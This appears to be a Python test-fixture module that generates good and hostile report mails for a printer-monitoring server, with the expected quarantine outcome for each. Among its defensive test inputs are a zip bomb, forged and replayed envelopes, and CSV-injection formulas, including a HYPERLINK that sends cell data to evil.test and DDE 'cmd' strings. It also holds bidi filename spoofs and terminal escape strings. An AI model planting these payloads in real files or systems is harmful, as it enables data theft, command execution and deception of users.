"""Reports, sealed mails and a corpus of bad mails for server tests and benchmarks.

Everything is sealed by the real ``fsm_protocol`` code with real keys; nothing here imitates
the protocol. ``bad_mails`` yields (expected outcome, raw bytes) pairs where the expected
outcome is a quarantine reason code or ``"duplicate"``.
"""

from __future__ import annotations

import base64
import functools
import gzip
import random
import zlib
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from email.message import EmailMessage
from pathlib import Path

import msgspec

from fsm_protocol import chunking, envelope, keys, mime
from fsm_protocol.crypto import SIGNATURE_BYTES
from fsm_protocol.schema import Alert, Capabilities, Device, Report, Status, Supply

FROM_ADDR = "client@fsm.test"
TO_ADDR = "dealer@fsm.test"

_COUNTERS = (
    "total",
    "total_black",
    "total_color",
    "print_black",
    "print_color",
    "copy_black",
    "copy_color",
    "fax",
    "scan",
    "duplex",
    "sheets",
    "a4",
)
_SUPPLIES = (
    ("toner", "black"),
    ("toner", "cyan"),
    ("toner", "magenta"),
    ("toner", "yellow"),
    ("opc", None),
    ("waste_toner", None),
)


@dataclass
class ClientKit:
    """A client's identity: its name, signing key and public key file."""

    name: str
    signing_key: keys.SigningKey
    pub_path: Path

    @property
    def pub_text(self) -> str:
        return self.signing_key.public.to_text()


@dataclass
class ServerKit:
    key_path: Path
    encryption_key: keys.EncryptionKey
    public: keys.ServerPublicKey


def make_server(directory: Path) -> ServerKit:
    key_path, _ = keys.generate_server_keys(directory)
    enc = keys.load_encryption_key(key_path)
    return ServerKit(key_path=key_path, encryption_key=enc, public=enc.public)


def make_client(directory: Path, name: str) -> ClientKit:
    key_path, pub_path = keys.generate_client_keys(directory)
    return ClientKit(name=name, signing_key=keys.load_signing_key(key_path), pub_path=pub_path)


def make_device(
    i: int,
    *,
    observed_at: datetime,
    serial: str | None = None,
    ip: str | None = None,
    mac: str | None = None,
    total: int = 10_000,
    alerts: int = 1,
) -> Device:
    """A colour MFP reading with 12 counters, 6 supplies and ``alerts`` alerts."""
    counters = {name: total // (k + 1) for k, name in enumerate(_COUNTERS)}
    supplies = [
        Supply(
            index=k + 1,
            description=f"{color or kind} {kind}",
            kind=kind,
            color=color,
            level=40 + k,
            max=100,
            unit="percent",
            percent=float(40 + k),
            state="ok",
        )
        for k, (kind, color) in enumerate(_SUPPLIES)
    ]
    return Device(
        ip=ip or f"10.{i // 65536 % 256}.{i // 256 % 256}.{i % 256}",
        observed_at=observed_at,
        manufacturer="Ricoh",
        model="MP C3004",
        serial=serial or f"SN{i:08d}",
        firmware="1.02",
        mac=mac or f"00:26:73:{i // 65536 % 256:02x}:{i // 256 % 256:02x}:{i % 256:02x}",
        hostname=f"mfp-{i}",
        pmd="ricoh",
        capabilities=Capabilities(color=True, duplex=True, trays=4),
        counters=counters,
        supplies=supplies,
        status=Status(device="running", printer="idle", conditions=["low_toner"] if alerts else []),
        alerts=[
            Alert(
                code="marker_toner_almost_empty",
                severity="warning",
                group="marker_supplies",
                group_index=1,
                description="Toner low",
                index=k + 1,
            )
            for k in range(alerts)
        ],
    )


def make_report(
    client: str,
    seq: int,
    *,
    devices: int = 3,
    created_at: datetime | None = None,
    total: int | None = None,
    first_device: int = 0,
    kind: str = "periodic",
) -> Report:
    """Report ``seq`` of ``client`` with ``devices`` readings; counters grow with ``seq``."""
    created = created_at or datetime.now(UTC).replace(microsecond=0)
    base = total if total is not None else 10_000 + seq * 100
    return Report(
        client_id=client,
        customer="ACME",
        site="HQ",
        seq=seq,
        kind=kind,  # type: ignore[arg-type]
        created_at=created,
        devices=[
            make_device(first_device + i, observed_at=created - timedelta(seconds=5), total=base + i)
            for i in range(devices)
        ],
    )


def seal(report: Report, client: ClientKit, server: ServerKit) -> bytes:
    return envelope.seal(report, signing_key=client.signing_key, server_key=server.public)


def mails_for(env: bytes, *, chunk_bytes: int | None = None) -> list[bytes]:
    """The mail(s) a client sends for an envelope (one per chunk)."""
    parts = chunking.split(env, chunk_bytes) if chunk_bytes else [env]
    return [mime.build_message(p, from_addr=FROM_ADDR, to_addr=TO_ADDR) for p in parts]


def report_mail(client: ClientKit, server: ServerKit, seq: int, *, devices: int = 3, **kw: object) -> bytes:
    return mails_for(seal(make_report(client.name, seq, devices=devices, **kw), client, server))[0]  # type: ignore[arg-type]


def _plain_mail(subject: str, body: str = "hello", attachments: list[tuple[str, bytes]] = ()) -> bytes:  # type: ignore[assignment]
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = "someone@example.test", TO_ADDR, subject
    msg.set_content(body)
    for name, data in attachments:
        msg.add_attachment(data, maintype="application", subtype="octet-stream", filename=name)
    return msg.as_bytes()


def bad_mails(
    client: ClientKit,
    server: ServerKit,
    *,
    revoked: ClientKit,
    stranger: ClientKit,
    other_server: ServerKit,
    loaded_mails: list[bytes],
    count: int,
    seed: int = 1,
    first_seq: int = 100_000,
    big: bool = True,
) -> Iterator[tuple[str, bytes]]:
    """``count`` bad or replayed mails with the outcome each must get.

    ``client`` is registered and active, ``revoked`` registered then revoked, ``stranger`` never
    registered; ``other_server`` is a server key the pipeline does not hold; ``loaded_mails`` have
    been loaded already (replays of them must count as duplicates).
    """
    bad = _BadMails(
        client, server, revoked, stranger, other_server, loaded_mails, random.Random(seed), first_seq
    )
    makers = [*bad.cases(), *bad.hostile_cases()]
    if big:
        makers.append(bad.huge)
    for _ in range(count):
        yield bad.rng.choice(makers)()


class _BadMails:
    """The cases of ``bad_mails``: each method makes one mail and names the outcome it must get."""

    def __init__(
        self,
        client: ClientKit,
        server: ServerKit,
        revoked: ClientKit,
        stranger: ClientKit,
        other_server: ServerKit,
        loaded_mails: list[bytes],
        rng: random.Random,
        first_seq: int,
    ) -> None:
        self.client, self.server, self.revoked, self.stranger = client, server, revoked, stranger
        self.other_server, self.loaded_mails, self.rng = other_server, loaded_mails, rng
        self.seq = first_seq
        self.now = datetime.now(UTC).replace(microsecond=0)

    def next_seq(self) -> int:
        self.seq += 1
        return self.seq

    def good_env(self, c: ClientKit | None = None, s: ServerKit | None = None, **kw: object) -> bytes:
        """A valid envelope of one device, from ``c`` (the client) to ``s`` (the server)."""
        c = self.client if c is None else c
        s = self.server if s is None else s
        return seal(make_report(c.name, self.next_seq(), devices=1, **kw), c, s)  # type: ignore[arg-type]

    def cases(self) -> list[Callable[[], tuple[str, bytes]]]:
        return [
            self.not_fsm,
            self.random_bytes,
            self.truncated,
            self.bad_base64,
            self.edited_headers,
            self.two_attachments,
            self.unknown_client,
            self.revoked_client,
            self.wrong_signing_key,
            self.bit_flip,
            self.header_flip,
            self.wrong_server_key,
            self.future,
            self.ancient,
            self.bad_version,
            self.bad_schema,
            self.zip_bomb,
            self.gzip_attachment,
            self.replay,
            self.replay_resealed_header,
            self.renumbered,
        ]

    def not_fsm(self) -> tuple[str, bytes]:
        return "not_fsm_mail", _plain_mail(f"lunch {self.rng.random()}", "see you at noon")

    def random_bytes(self) -> tuple[str, bytes]:
        junk = bytes(self.rng.getrandbits(8) for _ in range(self.rng.randint(0, 400)))
        return "not_fsm_mail", junk

    def truncated(self) -> tuple[str, bytes]:
        mail = mails_for(self.good_env())[0]
        cut = mail[: self.rng.randint(len(mail) // 2, len(mail) - 200)]
        return "malformed_mime|malformed|not_fsm_mail", cut

    def bad_base64(self) -> tuple[str, bytes]:
        env = self.good_env()
        first = base64.b64encode(env)[:60]
        return "malformed_mime", mails_for(env)[0].replace(first, b"!!" + first[2:], 1)

    def edited_headers(self) -> tuple[str, bytes]:
        env = self.good_env()
        mail = mails_for(env)[0]
        h = envelope.peek(env)
        return "malformed_mime", mail.replace(
            f"X-Fsm-Seq: {h.seq}".encode(), f"X-Fsm-Seq: {h.seq + 1}".encode()
        )

    def two_attachments(self) -> tuple[str, bytes]:
        return "malformed_mime", _plain_mail(
            "two", attachments=[("a.fsm", self.good_env()), ("b.fsm", self.good_env())]
        )

    def unknown_client(self) -> tuple[str, bytes]:
        return "unknown_client", mails_for(self.good_env(self.stranger))[0]

    def revoked_client(self) -> tuple[str, bytes]:
        return "revoked_client", mails_for(self.good_env(self.revoked))[0]

    def wrong_signing_key(self) -> tuple[str, bytes]:
        # the registered client's name, signed by someone else's key
        forged = ClientKit(
            name=self.client.name, signing_key=self.stranger.signing_key, pub_path=self.stranger.pub_path
        )
        return "bad_signature", mails_for(self.good_env(forged))[0]

    def bit_flip(self) -> tuple[str, bytes]:
        env = bytearray(self.good_env())
        h = envelope.peek(bytes(env))
        pos = self.rng.randrange(h.size, len(env))  # anywhere after the header: ciphertext or signature
        env[pos] ^= 1 << self.rng.randrange(8)
        return "bad_signature", mails_for(bytes(env))[0]

    def header_flip(self) -> tuple[str, bytes]:
        env = bytearray(self.good_env())
        # flip a bit of the ephemeral key or nonce (bytes 36..80): still parses, the signature covers it
        env[self.rng.randrange(36, 80)] ^= 1
        return "bad_signature", mails_for(bytes(env))[0]

    def wrong_server_key(self) -> tuple[str, bytes]:
        return "unknown_key|decryption_failed", mails_for(self.good_env(s=self.other_server))[0]

    def future(self) -> tuple[str, bytes]:
        return "implausible", mails_for(self.good_env(created_at=self.now + timedelta(days=3)))[0]

    def ancient(self) -> tuple[str, bytes]:
        return "implausible", mails_for(self.good_env(created_at=datetime(1999, 1, 1, tzinfo=UTC)))[0]

    def bad_version(self) -> tuple[str, bytes]:
        env = bytearray(self.good_env())
        env[4] = 9  # the version byte after the magic
        return "version_not_supported", mails_for_raw(bytes(env), self.client.name)

    def bad_schema(self) -> tuple[str, bytes]:
        return "bad_schema", mails_for(
            seal_plain(b'{"hello": "world"}', self.client, self.server, self.next_seq())
        )[0]

    def zip_bomb(self) -> tuple[str, bytes]:
        # 80 MB of zeros in ~80 KB, declared honestly (refused by size) or as small (refused inflating)
        declared = self.rng.choice((_BOMB_BYTES, 1000))
        return "too_large|bad_schema|malformed", mails_for(
            seal_compressed(_bomb(), declared, self.client, self.server, self.next_seq())
        )[0]

    def gzip_attachment(self) -> tuple[str, bytes]:
        return "not_fsm_mail", _plain_mail("archive", attachments=[("log.gz", gzip.compress(b"x" * 100_000))])

    def replay(self) -> tuple[str, bytes]:
        return "duplicate", self.rng.choice(self.loaded_mails)

    def replay_resealed_header(self) -> tuple[str, bytes]:
        # a replayed envelope in a fresh mail (different Message-ID, same bytes)
        env = mime.parse_message(self.rng.choice(self.loaded_mails)).envelope
        return "duplicate", mime.build_message(
            env, from_addr=FROM_ADDR, to_addr=TO_ADDR, message_id=f"<replay.{self.rng.random()}@x>"
        )

    def renumbered(self) -> tuple[str, bytes]:
        # a self.client that counts again from an earlier number: a new report under a loaded one
        loaded_seq = envelope.peek(mime.parse_message(self.rng.choice(self.loaded_mails)).envelope).seq
        report = make_report(
            self.client.name,
            loaded_seq,
            devices=1,
            created_at=self.now - timedelta(minutes=self.rng.randint(1, 10_000)),
        )
        return "seq_conflict", mails_for(seal(report, self.client, self.server))[0]

    # -- signed by the registered client, hostile inside (defects of issue 12) --------------------
    def hostile_cases(self) -> list[Callable[[], tuple[str, bytes]]]:
        """One maker per hostile report of ``hostile_cases()``, named after it."""
        makers: list[Callable[[], tuple[str, bytes]]] = []
        for name, (expected, hostile) in hostile_cases().items():

            def make(
                expected: str = expected, hostile: Callable[[Report], Report] = hostile
            ) -> tuple[str, bytes]:
                report = hostile(make_report(self.client.name, self.next_seq(), devices=2))
                return expected, mails_for(seal(report, self.client, self.server))[0]

            make.__name__ = name
            makers.append(make)
        return makers

    def huge(self) -> tuple[str, bytes]:
        return "too_large", _plain_mail(
            "big", attachments=[("big.fsm", b"\x89FSM" + bytes(50 * 1024 * 1024))]
        )


_BOMB_BYTES = 80 * 1024 * 1024


@functools.cache
def _bomb() -> bytes:
    return zlib.compress(b"\0" * _BOMB_BYTES, 9)


def seal_plain(plain: bytes, client: ClientKit, server: ServerKit, seq: int) -> bytes:
    """An envelope whose (validly signed, encrypted) plaintext is ``plain``, not a report."""
    return seal_compressed(zlib.compress(plain), len(plain), client, server, seq)


def seal_compressed(
    compressed: bytes, report_len: int, client: ClientKit, server: ServerKit, seq: int
) -> bytes:
    import os

    return envelope._seal_payload(
        compressed,
        report_len=report_len,
        client_id=client.name,
        seq=seq,
        kind="periodic",
        signing_key=client.signing_key,
        server_key=server.public,
        rng=os.urandom,
    )


def mails_for_raw(env: bytes, client_id: str) -> bytes:
    """A report mail around bytes ``mime.build_message`` would refuse (unparseable header)."""
    msg = EmailMessage()
    msg["From"], msg["To"], msg["Subject"] = FROM_ADDR, TO_ADDR, f"fsm report {client_id}"
    msg["X-Fsm-Client"] = client_id
    msg.set_content("fsm report")
    msg.add_attachment(env, maintype="application", subtype="octet-stream", filename="report.fsm")
    return msg.as_bytes()


def another_customers_serial(
    victim: Device,
    attacker: ClientKit,
    server: ServerKit,
    seq: int,
    *,
    customer: str,
    site: str = "",
    created_at: datetime | None = None,
    total: int = 5,
) -> bytes:
    """A mail of ``attacker``'s (registered, validly signed) reading a printer with ``victim``'s
    manufacturer and serial: another customer's printer, claimed under ``customer``.

    It must load as a device of the attacker's own customer and change nothing of the victim's
    (device row, history, reports); its ``total`` far below the victim's would show as a reset
    in the victim's history if it did.
    """
    at = created_at or datetime.now(UTC).replace(microsecond=0)
    forged = make_device(7, observed_at=at - timedelta(seconds=5), serial=victim.serial, total=total)
    forged.manufacturer, forged.model = victim.manufacturer, victim.model
    report = Report(
        client_id=attacker.name,
        customer=customer,
        site=site,
        seq=seq,
        kind="periodic",
        created_at=at,
        devices=[forged],
    )
    return mails_for(seal(report, attacker, server))[0]


#: Text a printer's owner (anyone on the customer's network) can set as model, location, supply
#: or alert text, which a spreadsheet would run as a formula (OWASP "CSV injection"); signed
#: reports carrying them must load, and every CSV cell must come out as text.
FORMULA_TEXTS: tuple[str, ...] = (
    '=HYPERLINK("http://evil.test/?"&A1,"click me")',
    "+1+cmd|' /C calc'!A0",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(1+9)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
)
#: Text that displays as something it is not: a right-to-left override shows "gnp.exe" as
#: "exe.png", a NUL or an ANSI escape reaches a page or a terminal raw. Signed reports
#: carrying them must load; every page and table must show them defused.
BIDI_TEXTS: tuple[str, ...] = ("invoice\u202egnp.exe", "\u2066\u202eesrever\u2069 tail", "a\u200fb\u061cc")
CONTROL_TEXTS: tuple[str, ...] = ("nul\x00byte", "\x1b[31mred\x1b[0m", "bell\x07 and del\x7f")


def hostile_text_device(
    i: int,
    *,
    observed_at: datetime,
    model: str,
    location: str,
    supply: str = "black toner",
    alert: str = "Toner low",
) -> Device:
    """``make_device(i)`` whose model, location, first supply and first alert are hostile text."""
    d = make_device(i, observed_at=observed_at)
    supplies = [msgspec.structs.replace(d.supplies[0], description=supply), *d.supplies[1:]]
    alerts = [msgspec.structs.replace(a, description=alert) for a in d.alerts]
    return msgspec.structs.replace(d, model=model, location=location, supplies=supplies, alerts=alerts)


# -- hostile reports: authentic, signed by a registered client, and hostile inside ------------------


def _first_device(report: Report, **changes: object) -> Report:
    """``report`` with its first reading changed as given."""
    first = msgspec.structs.replace(report.devices[0], **changes)
    return msgspec.structs.replace(report, devices=[first, *report.devices[1:]])


def _first_supply(report: Report, **changes: object) -> Report:
    supplies = report.devices[0].supplies
    return _first_device(report, supplies=[msgspec.structs.replace(supplies[0], **changes), *supplies[1:]])


def _first_alert(report: Report, **changes: object) -> Report:
    alerts = report.devices[0].alerts
    return _first_device(report, alerts=[msgspec.structs.replace(alerts[0], **changes), *alerts[1:]])


#: A 4-byte UTF-8 character that upper() and lower() leave alone: the most bytes per character.
WIDE = "\U0001f5a8"  # printer emoji


def hostile_cases() -> dict[str, tuple[str, Callable[[Report], Report]]]:
    """Name -> (expected outcome, change to a valid report) for reports a registered client signs.

    Text a printer sets is cleaned, not refused: control characters are stripped and over-long
    text is cut, each with a warning on the reading ("loaded"). Text the client itself chooses
    and numbers out of their range refuse the report.
    """
    return {
        "nul_in_identity": (
            "loaded",
            lambda r: _first_device(
                r, model="MP\x00C3004", serial="SN\x00" + r.devices[0].serial, manufacturer="Ri\x00coh"
            ),
        ),
        "controls_in_text": (
            "loaded",
            lambda r: _first_supply(
                _first_alert(
                    _first_device(
                        r,
                        location="Floor 2\x1b[2J\x07\r\nroom 5",
                        hostname="mfp\x7f",
                        contact="\x00",
                        firmware="1.0\x08",
                        sys_descr="a\tb",
                        status=msgspec.structs.replace(r.devices[0].status, console="Ready\x00"),
                    ),
                    description="jam\x00",
                ),
                description="Black\x00toner",
            ),
        ),
        "long_model": ("loaded", lambda r: _first_device(r, model="M" * 201)),
        "long_serial": ("loaded", lambda r: _first_device(r, serial="S" * 301)),
        "long_wide_text": (
            "loaded",
            lambda r: _first_device(
                r,
                manufacturer=WIDE * 500,
                serial=WIDE * 500,
                model=WIDE * 500,
                firmware=WIDE * 500,
                hostname=WIDE * 500,
                location=WIDE * 100_000,
                contact=WIDE * 600,
                sys_descr=WIDE * 600,
                sys_object_id="1.3" * 400,
            ),
        ),
        "long_supply_and_alert_text": (
            "loaded",
            lambda r: _first_supply(_first_alert(r, description="A" * 100_000), description="D" * 100_000),
        ),
        "long_customer": ("bad_schema", lambda r: msgspec.structs.replace(r, customer="C" * 201)),
        "nul_in_customer": ("bad_schema", lambda r: msgspec.structs.replace(r, site="H\x00Q")),
        "long_counter_name": ("bad_schema", lambda r: _first_device(r, counters={"x_" + "a" * 100: 1})),
        "long_supply_kind": ("bad_schema", lambda r: _first_supply(r, kind="k" * 65)),
        "supply_level_2_62": ("implausible", lambda r: _first_supply(r, level=2**62)),
        "supply_level_2_64": ("implausible", lambda r: _first_supply(r, level=2**64 - 1)),
        "supply_max_minus_7": ("implausible", lambda r: _first_supply(r, max=-7)),
        "supply_percent_minus_1e308": ("implausible", lambda r: _first_supply(r, percent=-1e308)),
        "supply_percent_1e308": ("implausible", lambda r: _first_supply(r, percent=1e308)),
        "supply_index_2_40": ("implausible", lambda r: _first_supply(r, index=2**40)),
        "alert_group_index_2_40": ("implausible", lambda r: _first_alert(r, group_index=2**40)),
        "alert_time_ticks_2_63": ("implausible", lambda r: _first_alert(r, time_ticks=2**63)),
        "uptime_2_64": ("implausible", lambda r: _first_device(r, uptime_ticks=2**64 - 1)),
        "trays_negative": (
            "implausible",
            lambda r: _first_device(r, capabilities=Capabilities(color=True, trays=-1)),
        ),
        "observed_in_1999": (
            "implausible",
            lambda r: _first_device(r, observed_at=datetime(1999, 1, 1, tzinfo=UTC)),
        ),
        "resend_of_2_63": ("implausible", lambda r: msgspec.structs.replace(r, resend_of=2**63)),
    }


def poison_then_valid(
    client: ClientKit, server: ServerKit, *, first_seq: int, valid_after_each: int = 2
) -> list[tuple[str, bytes]]:
    """Every hostile report, each followed by ``valid_after_each`` valid ones, with the outcome
    each must get; every valid one must load whatever came before it."""
    out: list[tuple[str, bytes]] = []
    seq = first_seq
    for expected, hostile in hostile_cases().values():
        out.append(
            (expected, mails_for(seal(hostile(make_report(client.name, seq, devices=2)), client, server))[0])
        )
        seq += 1
        for _ in range(valid_after_each):
            out.append(("loaded", report_mail(client, server, seq, devices=2)))
            seq += 1
    return out


__all__ = [
    "BIDI_TEXTS",
    "CONTROL_TEXTS",
    "FORMULA_TEXTS",
    "FROM_ADDR",
    "SIGNATURE_BYTES",
    "TO_ADDR",
    "WIDE",
    "ClientKit",
    "ServerKit",
    "another_customers_serial",
    "bad_mails",
    "hostile_cases",
    "hostile_text_device",
    "mails_for",
    "mails_for_raw",
    "make_client",
    "make_device",
    "make_report",
    "make_server",
    "poison_then_valid",
    "report_mail",
    "seal",
    "seal_compressed",
    "seal_plain",
]
